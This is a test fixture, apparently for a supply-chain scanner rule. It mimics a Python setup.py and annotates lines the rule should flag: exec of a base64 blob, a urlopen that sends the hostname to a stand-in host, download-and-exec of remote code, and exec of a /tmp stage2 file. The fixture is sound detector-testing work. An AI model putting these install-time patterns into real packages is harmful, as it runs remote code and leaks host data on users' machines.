# provscan-test-path: setup.py
# Fixture for py.setup-network-or-eval (provscan's own).
import base64
import os
import urllib.request
from setuptools import setup

about = {}
# ok: py.setup-network-or-eval
exec(open("src/pkg/__about__.py").read(), about)
# ruleid: py.setup-network-or-eval
exec(base64.b64decode("cHJpbnQoJ2hpJyk="))
# ruleid: py.setup-network-or-eval
urllib.request.urlopen("https://example.invalid/c?h=" + __import__("socket").gethostname())
here = "."
with open(os.path.join(here, "pkg", "__version__.py"), "r", encoding="utf-8") as f:
    # ok: py.setup-network-or-eval
    exec(f.read(), about)
# ruleid: py.setup-network-or-eval
with urllib.request.urlopen("https://example.invalid/v.py") as f:
    # ruleid: py.setup-network-or-eval
    exec(f.read(), about)
with open("/tmp/.cache/stage2") as g:
    # ruleid: py.setup-network-or-eval
    exec(g.read())
# ok: py.setup-network-or-eval
setup(name="pkg", version=about["__version__"], url="https://example.invalid/pkg")
